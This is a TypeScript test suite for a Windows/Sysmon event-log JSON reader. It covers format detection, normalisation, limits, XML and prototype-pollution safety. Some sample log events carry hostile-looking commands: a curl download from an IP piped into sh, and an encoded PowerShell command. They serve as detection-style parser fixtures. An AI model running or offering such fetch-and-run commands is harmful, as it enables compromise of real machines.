import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import YAML from 'yaml';
import { ConfigError, type LogEvent } from '../../core/index.js';
import { repoRoot } from '../../../test/support/fixtures.js';
import {
  compileWinlogMapping,
  readWinlogJson,
  type WinlogJsonOptions,
  detectWinlogLayout,
  WinlogReader,
} from './index.js';

type Obj = Record<string, unknown>;
const mapping = (name: string) =>
  compileWinlogMapping(
    YAML.parse(readFileSync(join(repoRoot(), 'rules/mappings', name), 'utf8')),
    name,
  );
const mappings = { nxlog: mapping('winlog-nxlog.yml'), ecs: mapping('winlog-ecs.yml') };

function read(text: string | Uint8Array, options: Partial<WinlogJsonOptions> = {}) {
  const bytes = typeof text === 'string' ? new TextEncoder().encode(text) : text;
  const events: LogEvent[] = [];
  const anomalies: { code: string; location?: string }[] = [];
  for (const item of readWinlogJson(bytes, { path: 'in.json', mappings, ...options })) {
    if (item.type === 'event') events.push(item.event);
    else anomalies.push(item.anomaly);
  }
  return { events, anomalies, codes: anomalies.map((a) => a.code) };
}

const EVTX_LAYOUT = {
  Event: {
    '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
    System: {
      EventID: 1,
      TimeCreated: { '#attributes': { SystemTime: '2019-03-19T23:34:04.542497Z' } },
      EventRecordID: 7,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: 'ws01.example.com',
    },
    EventData: { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c echo hi' },
  },
};

test('winlog-json: evtx-rs layout as JSON Lines, as an array and as evtx_dump "Record N" output', () => {
  const line = JSON.stringify(EVTX_LAYOUT);
  const jsonl = read(`${line}\n\n${line}\r\n`);
  assert.deepEqual(jsonl.anomalies, []);
  assert.deepEqual(
    jsonl.events.map((e) => e.source.line),
    [1, 3],
  );
  assert.deepEqual(jsonl.events[0], {
    kind: 'windows',
    source: { path: 'in.json', line: 1 },
    host: 'ws01.example.com',
    time: '2019-03-19T23:34:04.542497Z',
    data: EVTX_LAYOUT,
  });
  assert.equal(read(JSON.stringify([EVTX_LAYOUT, EVTX_LAYOUT], null, 2)).events.length, 2);
  const dump = `Record 1\n${JSON.stringify(EVTX_LAYOUT, null, 2)}\nRecord 2\n${JSON.stringify(EVTX_LAYOUT, null, 2)}\n`;
  const dumped = read(dump);
  assert.deepEqual(
    dumped.events.map((e) => e.source.line),
    [2, 2 + JSON.stringify(EVTX_LAYOUT, null, 2).split('\n').length + 1],
  );
});

test('winlog-json: UTF-16 with a byte-order mark (PowerShell Out-File) reads the same', () => {
  const text = `\uFEFF${JSON.stringify(EVTX_LAYOUT)}\n`;
  const bytes = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++)
    new DataView(bytes.buffer).setUint16(2 * i, text.charCodeAt(i), true);
  assert.deepEqual(read(bytes).events[0]?.data, EVTX_LAYOUT);
});

test('winlog-json: ECS/Winlogbeat, nested or flattened keys, unnamed params → the evtx-rs layout', () => {
  const nested = {
    '@timestamp': '2024-05-01T10:00:00.123Z',
    host: { name: 'WS01' },
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational',
      event_id: '1',
      record_id: 42,
      computer_name: 'ws01.example.com',
      provider_name: 'Microsoft-Windows-Sysmon',
      process: { pid: 3392, thread: { id: 5552 } },
      user: { identifier: 'S-1-5-18' },
      event_data: {
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        ParentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      },
    },
  };
  const [event] = read(JSON.stringify(nested)).events;
  assert.deepEqual(event?.data, {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
        EventID: 1,
        TimeCreated: { '#attributes': { SystemTime: '2024-05-01T10:00:00.123000Z' } },
        EventRecordID: 42,
        Execution: { '#attributes': { ProcessID: 3392, ThreadID: 5552 } },
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: 'ws01.example.com',
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: nested.winlog.event_data,
    },
  });
  assert.equal(event?.host, 'ws01.example.com');
  const flat = {
    '@timestamp': '2024-05-01T10:00:00Z',
    'host.name': 'WS02',
    'winlog.channel': 'windows powershell',
    'winlog.event_id': 400,
    'winlog.event_data': {
      param2: 'None',
      param1: 'Available',
      param3: '\tHostApplication=powershell -enc SQBFAFgA',
    },
  };
  const [classic] = read(JSON.stringify(flat)).events;
  const e = classic?.data['Event'] as Obj;
  assert.deepEqual((e['System'] as Obj)['Channel'], 'Windows PowerShell');
  assert.equal(classic?.host, 'WS02');
  assert.deepEqual(e['EventData'], {
    Data: { '#text': ['Available', 'None', '\tHostApplication=powershell -enc SQBFAFgA'] },
  });
});

test('winlog-json: NXLog flat JSON → System fields, EventData, hex keywords, canonical channel, UTC time', () => {
  const nxlog = {
    EventTime: '2020-09-21 00:14:53',
    EventReceivedTime: '2020-09-21 00:14:55',
    '@timestamp': '2020-09-21T04:14:55.123Z',
    Hostname: 'WORKSTATION6.theshire.local',
    Keywords: -9214364837600034816,
    EventType: 'AUDIT_SUCCESS',
    SeverityValue: 2,
    SourceName: 'Microsoft-Windows-Security-Auditing',
    ProviderGuid: '{54849625-5478-4994-A5BA-3E3B0328C30D}',
    EventID: 4688,
    Channel: 'security',
    RecordNumber: 768477,
    ExecutionProcessID: 4,
    ThreadID: 5792,
    SourceModuleType: 'im_msvistalog',
    Message: 'A new process has been created.',
    NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    ParentProcessName: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    SubjectLogonId: '0x3e7',
  };
  const [event] = read(JSON.stringify(nxlog)).events;
  assert.deepEqual(event?.data, {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: {
          '#attributes': {
            Name: 'Microsoft-Windows-Security-Auditing',
            Guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}',
          },
        },
        EventID: 4688,
        Keywords: '0x8020000000000000',
        TimeCreated: { '#attributes': { SystemTime: '2020-09-21T04:14:53.000000Z' } },
        EventRecordID: 768477,
        Execution: { '#attributes': { ProcessID: 4, ThreadID: 5792 } },
        Channel: 'Security',
        Computer: 'WORKSTATION6.theshire.local',
      },
      EventData: {
        NewProcessName: nxlog.NewProcessName,
        ParentProcessName: nxlog.ParentProcessName,
        SubjectLogonId: '0x3e7',
      },
    },
  });
  // Sysmon's EventType survives when NXLog's own was renamed out of its way.
  const sysmon = {
    ...nxlog,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    EventID: 13,
    EventType: 'SetValue',
    EventTypeOrignal: 'INFO',
  };
  assert.equal(
    ((read(JSON.stringify(sysmon)).events[0]?.data['Event'] as Obj)['EventData'] as Obj)[
      'EventType'
    ],
    'SetValue',
  );
});

test('winlog-json: Sysmon for Linux XML in syslog lines and in a JSON message field', () => {
  const xml =
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID>' +
    '<Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>' +
    '<TimeCreated SystemTime="2024-05-01T10:00:00.123456000Z"/><EventRecordID>77</EventRecordID><Correlation/>' +
    '<Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer>' +
    '<Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="Image">/usr/bin/curl</Data>' +
    '<Data Name="CommandLine">curl -s http://198.51.100.7/a.sh &amp;&amp; sh a.sh</Data><Data Name="CurrentDirectory"/></EventData></Event>';
  const syslog = `May  1 10:00:00 web01 sysmon: ${xml}\nMay  1 10:00:01 web01 sshd[1]: unrelated\n`;
  const { events, codes } = read(syslog);
  assert.deepEqual(codes, ['E_WINLOG_UNKNOWN_SOURCE']);
  assert.deepEqual(events[0]?.data, {
    Event: {
      System: {
        Provider: {
          '#attributes': { Name: 'Linux-Sysmon', Guid: '{ff032593-a8d3-4f13-b0d6-01fc615a0f97}' },
        },
        EventID: 1,
        Version: 5,
        Level: 4,
        Task: 1,
        Opcode: 0,
        Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: '2024-05-01T10:00:00.123456000Z' } },
        EventRecordID: 77,
        Correlation: null,
        Execution: { '#attributes': { ProcessID: 812, ThreadID: 812 } },
        Channel: 'Linux-Sysmon/Operational',
        Computer: 'web01',
        Security: { '#attributes': { UserId: '0' } },
      },
      EventData: {
        RuleName: '-',
        Image: '/usr/bin/curl',
        CommandLine: 'curl -s http://198.51.100.7/a.sh && sh a.sh',
        CurrentDirectory: '',
      },
    },
  });
  assert.deepEqual(events[0]?.source, { path: 'in.json', line: 1 });
  const bracketed = read(`[2024-05-01T10:00:00Z] web01 sysmon: ${xml}\n`);
  assert.deepEqual(bracketed.events[0]?.data, events[0]?.data);
  const wrapped = read(JSON.stringify({ host: 'web01', message: `sysmon: ${xml}` }));
  assert.deepEqual(wrapped.events[0]?.data, events[0]?.data);
  assert.deepEqual(read(`x <Event><System>`).codes, ['E_WINLOG_BAD_XML']);
  // No DTD, no entity expansion: declarations inside an event are refused, unknown entities stay text.
  assert.deepEqual(read(`<Event><!ENTITY a "b"></Event>`).codes, ['E_WINLOG_BAD_XML']);
  assert.deepEqual(read(`<Event><A>&a;</A></Event>`).events[0]?.data, { Event: { A: '&a;' } });
});

test('winlog-json: objects up to maxValueLength are read, longer ones skipped with an anomaly', () => {
  const line = JSON.stringify(EVTX_LAYOUT);
  assert.equal(read(line, { maxValueLength: line.length }).events.length, 1);
  const over = read(`${line}\n${line}`, { maxValueLength: line.length - 1 });
  assert.deepEqual(over.codes, ['E_WINLOG_TOO_LONG', 'E_WINLOG_TOO_LONG']);
  // Text lines too, and a line without end does not grow without bound.
  const reader = new WinlogReader({ path: 'x.log', maxValueLength: 100 });
  assert.deepEqual(reader.push('May 1 host: '), []);
  const items = [...reader.push('a'.repeat(200)), ...reader.push('<Event/>\n'), ...reader.finish()];
  assert.deepEqual(
    items.map((i) => (i.type === 'anomaly' ? i.anomaly.code : i.type)),
    ['E_WINLOG_TOO_LONG'],
  );
});

test('winlog-json: nesting up to maxDepth is read, deeper objects skipped with an anomaly', () => {
  const deep = (n: number) => {
    let value: Obj = { x: 1 };
    for (let i = 0; i < n - 3; i++) value = { x: value }; // depth n
    return JSON.stringify({ Event: { System: { Computer: 'a' }, EventData: value } });
  };
  assert.equal(read(deep(10), { maxDepth: 10 }).events.length, 1);
  assert.deepEqual(read(deep(11), { maxDepth: 10 }).codes, ['E_WINLOG_TOO_DEEP']);
  assert.deepEqual(read(`${'['.repeat(100_000)}${']'.repeat(100_000)}`).events, []);
});

test('winlog-json: bad JSON, truncated input, missing mappings and foreign events are anomalies', () => {
  const line = JSON.stringify(EVTX_LAYOUT);
  assert.deepEqual(read(`${line}\n{"a": tru}\n${line}`).codes, ['E_WINLOG_BAD_JSON']);
  // JSON Lines: a cut last line is a bad line, at its line; JSON spanning lines: the input is cut.
  const cut = read(`${line}\n{"Event": {`);
  assert.deepEqual(cut.codes, ['E_WINLOG_BAD_JSON']);
  assert.match(cut.anomalies[0]?.location ?? '', /in\.json:2$/);
  assert.deepEqual(read(`{\n"Event": {}}\n{"Event": {`).codes, ['E_WINLOG_TRUNCATED']);
  const nxlog = JSON.stringify({
    EventID: 1,
    Channel: 'System',
    SourceModuleType: 'im_msvistalog',
  });
  assert.deepEqual(read(`${nxlog}\n${nxlog}`, { mappings: {} }).codes, ['E_WINLOG_NO_MAPPING']);
  const zeek = read('{"ts":1,"uid":"C1","id.orig_h":"192.0.2.1"}\n{"ts":2}\n');
  assert.deepEqual(zeek.codes, ['E_WINLOG_UNKNOWN_SOURCE']);
  assert.match(zeek.anomalies[0]?.location ?? '', /in\.json:1$/);
});

test('winlog-json: a "__proto__" field is data, not a prototype', () => {
  const [event] = read(
    '{"EventID":1,"Channel":"System","SourceModuleType":"x","__proto__":{"polluted":true}}',
  ).events;
  const eventData = (event?.data['Event'] as Obj)['EventData'] as Obj;
  assert.equal(Object.getPrototypeOf(eventData), Object.prototype);
  assert.deepEqual(Object.getOwnPropertyDescriptor(eventData, '__proto__')?.value, {
    polluted: true,
  });
  assert.equal(({} as Obj)['polluted'], undefined);
});

test('winlog-json: mapping files compile; a typo in a mapping is a ConfigError', () => {
  assert.equal(mappings.nxlog.source, 'nxlog');
  assert.equal(mappings.ecs.source, 'ecs');
  assert.throws(
    () => compileWinlogMapping({ source: 'nxlog', feilds: {} }, 'x.yml'),
    (e: unknown) => e instanceof ConfigError && /unknown key "feilds"/.test(e.message),
  );
  assert.throws(() => compileWinlogMapping({ source: 'splunk' }), ConfigError);
  assert.throws(
    () => compileWinlogMapping({ source: 'ecs', convert: { 'System.Keywords': 'rot13' } }),
    ConfigError,
  );
});

test('winlog-json: detectWinlogLayout tells JSON Lines (split at newlines) from JSON spanning lines', () => {
  const line = JSON.stringify(EVTX_LAYOUT);
  assert.equal(detectWinlogLayout(`${line}\r\n${line}\r\n`, false), 'lines');
  assert.equal(detectWinlogLayout(`\uFEFF${line}\n{"a": tru}\n`, false), 'lines', 'one bad line');
  assert.equal(detectWinlogLayout(line, false), undefined, 'no whole line yet');
  assert.equal(detectWinlogLayout(line, true), 'lines', 'a one-line file');
  assert.equal(detectWinlogLayout(`{\n  "Event": {}\n}\n`, false), 'json', 'pretty-printed');
  assert.equal(detectWinlogLayout(`${line}${line}\n`, false), 'json', 'concatenated objects');
  assert.equal(detectWinlogLayout(`[${line},\n${line}]\n`, false), 'json', 'an array');
  assert.equal(detectWinlogLayout('May 1 host: <Event/>\n', false), 'lines', 'syslog');
});

test('winlog-json: a fragment counts lines from its start and leaves the summary to the caller', () => {
  const line = JSON.stringify(EVTX_LAYOUT);
  const reader = new WinlogReader({ path: 'x.jsonl', fragment: true });
  const items = [...reader.push(`${line}\r\n{"a": tru}\r\nnot an event\r\n`), ...reader.finish()];
  assert.deepEqual(
    items.map((i) => (i.type === 'anomaly' ? `${i.anomaly.code}@${i.line}` : i.event.source.line)),
    [1, 'E_WINLOG_BAD_JSON@2'],
  );
  assert.deepEqual(reader.unknownLines(), { count: 1, first: 3 });
  assert.equal(reader.lines, 3);
});
